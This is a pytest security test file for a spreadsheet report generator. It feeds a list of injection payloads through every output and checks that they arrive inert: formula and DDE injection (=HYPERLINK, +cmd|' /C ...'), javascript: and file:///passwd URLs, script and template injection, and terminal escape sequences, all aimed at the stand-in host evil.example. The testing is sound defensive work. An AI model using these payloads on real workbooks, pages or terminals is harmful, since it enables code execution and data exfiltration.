"""What an owner typed stays text in every output: no formula, link, markup, attachment or command."""

from __future__ import annotations

import json
import os
import re
import sys
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Mapping
from io import BytesIO
from pathlib import Path
from typing import Any

import pypdf
import pytest
from typer.testing import CliRunner

from sheetreport import __version__, batch, cli, pipeline
from sheetreport.answers import Flat, flatten, load
from sheetreport.catalog.definitions import Catalog, FieldType
from sheetreport.catalog.load import load_catalog
from sheetreport.i18n import Wording
from sheetreport.pipeline import Options
from sheetreport.render import pdf, view
from sheetreport.template import build
from tests.conftest import SAMPLES

MARK = "evil.example"
LITERAL = re.compile('"(?:[^"]|"")*"')  # a text in a formula, its quotes doubled
LEADING = {"href", "src", "style", "action", "data", "srcset", "poster"}
PAYLOADS = (
    f'=HYPERLINK("http://{MARK}","press")',
    f"+cmd|' /C {MARK}'!A0",
    f"-2+3+{MARK}",
    f"@SUM(A1)*{MARK}",
    f"\t=1+{MARK}",
    f"http://{MARK}/?all=answers",
    f"file:///{MARK}/passwd",
    f"javascript:alert('{MARK}')",
    f"external:{MARK}!A1",
    f'<img src="http://{MARK}/x.png" onerror="alert(1)">',
    f'"><script src="//{MARK}"></script>',
    f'<link rel="attachment" href="file:///{MARK}">',
    f"url(http://{MARK}/x.css); {{{{ {MARK} }}}} {{% include '{MARK}' %}}",
    f"\x1b]8;;http://{MARK}\x1b\\press\x1b[31m [bold red]{MARK}[/bold red] \x9b31m",
    f"\ud800 \ufffe \x00 \x0b \u202e\u200f {MARK}",
    f"{MARK} " + "w" * 32_000,
    f"{MARK} " * 4_000,
)


def poisoned(catalog: Catalog) -> Flat:
    """The worked example with one payload or another in place of every text."""
    sound = flatten(catalog, load(SAMPLES / "barbershop-ru" / "answers.yaml"))
    turn = iter(range(100_000))

    def replaced(values: Mapping[str, Any]) -> dict[str, Any]:
        free = {key for key in values if catalog.fields[key].type is FieldType.TEXT}
        return {
            key: f"{PAYLOADS[(number := next(turn)) % len(PAYLOADS)]} {number}" if key in free else value
            for key, value in values.items()
        }

    tables = {key: tuple(map(replaced, rows)) for key, rows in sound.tables.items()}
    return Flat(replaced(sound.scalars), tables, ())


@pytest.fixture(scope="module")
def returned() -> bytes:
    catalog = load_catalog()
    return build(catalog, "ru", answers=poisoned(catalog), tool_version=__version__)


@pytest.fixture(scope="module")
def outcome(returned: bytes) -> pipeline.Outcome:
    return pipeline.process(load_catalog(), returned, "client.xlsx", Options())


@pytest.fixture(scope="module")
def workbooks(returned: bytes, outcome: pipeline.Outcome) -> dict[str, bytes]:
    made = {name: data for name, data in outcome.outputs.items() if name.endswith(".xlsx")}
    assert "report.xlsx" in made
    return {"template": returned, **made}


def test_the_payloads_arrive(outcome: pipeline.Outcome) -> None:
    assert outcome.result["status"] in ("complete", "partial")
    said = json.dumps(outcome.result, ensure_ascii=False)
    assert all(text in said for text in ("=HYPERLINK", "+cmd|", "@SUM(A1)", "<img src=", "javascript:"))


def test_no_formula_link_or_connection_of_a_workbook_comes_from_the_owner(
    workbooks: dict[str, bytes],
) -> None:
    for name, data in workbooks.items():
        seen = 0
        with zipfile.ZipFile(BytesIO(data)) as archive:
            assert not [part for part in archive.namelist() if "external" in part.lower()], name
            for part in archive.namelist():
                if not part.endswith((".xml", ".rels", ".vml")):
                    continue
                content = archive.read(part)
                root = ET.fromstring(content)  # well-formed, whatever was typed
                seen += MARK.encode() in content
                for element in root.iter():
                    tag = element.tag.rpartition("}")[2]
                    if tag in {"f", "formula", "formula1", "formula2", "definedName"}:
                        assert MARK not in LITERAL.sub("", element.text or ""), (name, part)
                    if tag in {"hyperlink", "Relationship"}:
                        assert MARK not in str(element.attrib), (name, part)
                        assert element.attrib.get("TargetMode") != "External", (name, part)
        assert seen, f"{name}: no payload found, so nothing was shown"


def test_no_text_of_a_cell_is_longer_than_excel_takes(workbooks: dict[str, bytes]) -> None:
    for data in workbooks.values():
        with zipfile.ZipFile(BytesIO(data)) as archive:
            texts = re.findall(rb"<t[ >][^<]*", archive.read("xl/sharedStrings.xml"))
        assert texts
        assert max(len(text.decode()) for text in texts) < 32_767


def test_markup_of_the_owner_is_shown_as_typed(outcome: pipeline.Outcome) -> None:
    html = pdf.render_html(view.build(outcome.result, load_catalog(), Wording("ru")))
    root = ET.fromstring(html)
    tags = {str(element.tag).rpartition("}")[2] for element in root.iter()}
    assert not tags & {"script", "link", "iframe", "object", "embed", "form"}
    attributes = [item for element in root.iter() for item in element.attrib.items()]
    assert "href" in {name for name, _ in attributes}
    for name, value in attributes:
        assert not name.startswith("on")
        assert MARK not in value or name.rpartition("}")[2] not in LEADING
    assert MARK in "".join(root.itertext())


def test_the_pdf_links_nowhere_and_carries_nothing(outcome: pipeline.Outcome) -> None:
    reader = pypdf.PdfReader(BytesIO(outcome.outputs["report.pdf"]))
    catalog: Any = reader.trailer["/Root"].get_object()
    assert not {"/AA", "/OpenAction", "/AcroForm"} & set(catalog)
    assert not reader.attachments
    assert "/JavaScript" not in str(catalog.get("/Names", {}))
    for page in reader.pages:
        for annotation in page.get("/Annots", []):
            action = annotation.get_object().get("/A", {})
            assert "/URI" not in action
            assert action.get("/S") not in ("/Launch", "/JavaScript", "/URI", "/GoToR")


def test_the_engine_fetches_nothing_but_bundled_files() -> None:
    fetcher = pdf._engine().fetcher
    for url in (
        f"http://{MARK}/x.png",
        "file:///etc/passwd",
        "data:text/html,x",
        "asset:../../errors.py",
        "asset:fonts/../../errors.py",
        "asset:/etc/passwd.ttf",
    ):
        with pytest.raises(ValueError, match="not an asset"):
            fetcher.fetch(url)


def test_json_is_json(outcome: pipeline.Outcome) -> None:
    text = outcome.outputs["report.json"].decode("utf-8")
    assert json.loads(text) == outcome.result
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\u202e]", text)


def test_nothing_steers_the_terminal(returned: bytes, tmp_path: Path) -> None:
    file = tmp_path / "a\x1b[31m\u202e[bold]b.xlsx"
    try:
        file.write_bytes(returned)
    except OSError:  # Windows takes no such name
        file = tmp_path / "client.xlsx"
        file.write_bytes(returned)
    for arguments in (["check"], ["report", "--no-pdf", "--out", str(tmp_path / "out")]):
        result = CliRunner().invoke(cli.app, [*arguments, str(file)])
        said = result.stdout + result.stderr
        assert file.stem.split("\x1b")[0] in said
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", said)


@pytest.mark.skipif(sys.platform in ("win32", "darwin"), reason="names there are always text")
def test_a_name_that_is_no_text_is_reported_like_any_other(returned: bytes, tmp_path: Path) -> None:
    file = Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff\xfe.xlsx"))
    file.write_bytes(returned)
    (job,) = batch.plan([file], tmp_path / "out")
    settings = batch.Settings(tmp_path / "out", several=True)
    (outcome,) = batch.run([job], Options(pdf=False), settings, lambda _: None)
    assert outcome.error is None
    assert json.loads((tmp_path / "out" / batch.SUMMARY).read_bytes())["files"][0]["status"] == outcome.status
